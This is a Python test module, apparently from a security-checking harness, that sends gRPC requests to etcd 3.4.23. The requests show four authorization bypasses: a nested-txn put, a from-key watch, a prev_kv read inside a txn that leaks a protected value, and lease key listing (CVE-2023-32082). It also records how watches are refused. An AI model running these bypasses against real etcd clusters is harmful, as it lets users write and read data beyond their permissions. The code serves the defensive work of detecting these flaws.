"""Four requests that etcd 3.4.23's auth lets through without the permission they need, sent
over gRPC to any endpoint by a user (alice) whose only permissions are READWRITE on key ``a``
and WRITE on key ``w`` (which holds ``secret``): a put on ``z`` inside a nested txn
(``checkTxnAuth`` does not look into nested txns), a watch on every key from ``a`` on
(``--from-key``: the watch service turns ``range_end`` "\\0" into an empty one before its
permission check, so only the key ``a`` is checked), a put on ``w`` with ``prev_kv`` inside
a txn (a put's ``prev_kv`` needs read permission on its own, not inside a txn), which returns
the value alice may not read, and a lease time-to-live with ``keys`` on alice's lease to which
root attached the key ``z-leased`` (3.4.23 lists the keys to anyone; CVE-2023-32082, fixed in
3.4.26)."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator

import grpc

from runner.etcd.etcdpb import auth_pb2, rpc_pb2, rpc_pb2_grpc

TIMEOUT = 10.0


def _as_alice(channel: grpc.Channel) -> tuple[tuple[str, str], ...]:
    auth = rpc_pb2_grpc.AuthStub(channel)
    rpc_pb2_grpc.KVStub(channel).Put(rpc_pb2.PutRequest(key=b"w", value=b"secret"))
    auth.UserAdd(rpc_pb2.AuthUserAddRequest(name="root", password="r"), timeout=TIMEOUT)
    auth.UserGrantRole(rpc_pb2.AuthUserGrantRoleRequest(user="root", role="root"), timeout=TIMEOUT)
    auth.UserAdd(rpc_pb2.AuthUserAddRequest(name="alice", password="a"), timeout=TIMEOUT)
    auth.RoleAdd(rpc_pb2.AuthRoleAddRequest(name="r"), timeout=TIMEOUT)
    perm = auth_pb2.Permission(permType=auth_pb2.Permission.READWRITE, key=b"a")
    auth.RoleGrantPermission(
        rpc_pb2.AuthRoleGrantPermissionRequest(name="r", perm=perm), timeout=TIMEOUT
    )
    write = auth_pb2.Permission(permType=auth_pb2.Permission.WRITE, key=b"w")
    auth.RoleGrantPermission(
        rpc_pb2.AuthRoleGrantPermissionRequest(name="r", perm=write), timeout=TIMEOUT
    )
    auth.UserGrantRole(rpc_pb2.AuthUserGrantRoleRequest(user="alice", role="r"), timeout=TIMEOUT)
    auth.AuthEnable(rpc_pb2.AuthEnableRequest(), timeout=TIMEOUT)
    answer = auth.Authenticate(
        rpc_pb2.AuthenticateRequest(name="alice", password="a"), timeout=TIMEOUT
    )
    return (("token", answer.token),)


def probe(target: str) -> list[str]:
    """What the endpoint answers to the two requests (``host:port``)."""
    lines: list[str] = []
    with grpc.insecure_channel(target) as channel:
        metadata = _as_alice(channel)
        put = rpc_pb2.RequestOp(request_put=rpc_pb2.PutRequest(key=b"z", value=b"x"))
        inner = rpc_pb2.RequestOp(request_txn=rpc_pb2.TxnRequest(success=[put]))
        try:
            answer = rpc_pb2_grpc.KVStub(channel).Txn(
                rpc_pb2.TxnRequest(success=[inner]), metadata=metadata, timeout=TIMEOUT
            )
            lines.append(f"nested txn put z: succeeded={answer.succeeded}")
        except grpc.RpcError as error:
            lines.append(f"nested txn put z: {error.code().name} {error.details()}")

        put_w = rpc_pb2.RequestOp(
            request_put=rpc_pb2.PutRequest(key=b"w", value=b"mine", prev_kv=True)
        )
        try:
            answer = rpc_pb2_grpc.KVStub(channel).Txn(
                rpc_pb2.TxnRequest(success=[put_w]), metadata=metadata, timeout=TIMEOUT
            )
            previous = answer.responses[0].response_put.prev_kv.value
            lines.append(f"txn put w prev_kv: previous value {previous!r}")
        except grpc.RpcError as error:
            lines.append(f"txn put w prev_kv: {error.code().name} {error.details()}")

        lease = rpc_pb2_grpc.LeaseStub(channel)
        granted = lease.LeaseGrant(
            rpc_pb2.LeaseGrantRequest(TTL=60), metadata=metadata, timeout=TIMEOUT
        )
        root = rpc_pb2_grpc.AuthStub(channel).Authenticate(
            rpc_pb2.AuthenticateRequest(name="root", password="r"), timeout=TIMEOUT
        )
        rpc_pb2_grpc.KVStub(channel).Put(
            rpc_pb2.PutRequest(key=b"z-leased", value=b"x", lease=granted.ID),
            metadata=(("token", root.token),),
            timeout=TIMEOUT,
        )
        try:
            listed = lease.LeaseTimeToLive(
                rpc_pb2.LeaseTimeToLiveRequest(ID=granted.ID, keys=True),
                metadata=metadata,
                timeout=TIMEOUT,
            )
            lines.append(f"lease timetolive --keys: keys {list(listed.keys)}")
        except grpc.RpcError as error:
            lines.append(f"lease timetolive --keys: {error.code().name} {error.details()}")

        def requests() -> Iterator[rpc_pb2.WatchRequest]:
            create = rpc_pb2.WatchCreateRequest(key=b"a", range_end=b"\0")
            yield rpc_pb2.WatchRequest(create_request=create)
            time.sleep(1.0)

        stream = rpc_pb2_grpc.WatchStub(channel).Watch(
            requests(), metadata=metadata, timeout=TIMEOUT
        )
        first = next(iter(stream))
        lines.append(
            f"watch from key a: created={first.created} canceled={first.canceled} "
            f"reason={first.cancel_reason!r}"
        )
        stream.cancel()
    return lines


_IDS = re.compile(r"(cluster_id|member_id|raft_term): \d+")


def watch_refusals(target: str) -> list[str]:
    """What a watch on ``z`` is answered as alice (no permission), without a token and with a
    garbage one: the first message of each stream, IDs masked."""
    lines: list[str] = []
    with grpc.insecure_channel(target) as channel:
        alice = _as_alice(channel)
        tokens = (("alice", alice), ("no token", ()), ("garbage token", (("token", "x.1"),)))
        for name, metadata in tokens:

            def requests() -> Iterator[rpc_pb2.WatchRequest]:
                yield rpc_pb2.WatchRequest(create_request=rpc_pb2.WatchCreateRequest(key=b"z"))
                time.sleep(0.5)

            stream = rpc_pb2_grpc.WatchStub(channel).Watch(
                requests(), metadata=metadata, timeout=TIMEOUT
            )
            first = next(iter(stream))
            text = _IDS.sub(r"\1: <id>", " ".join(str(first).split()))
            lines.append(f"{name}: {text}")
            stream.cancel()
    return lines
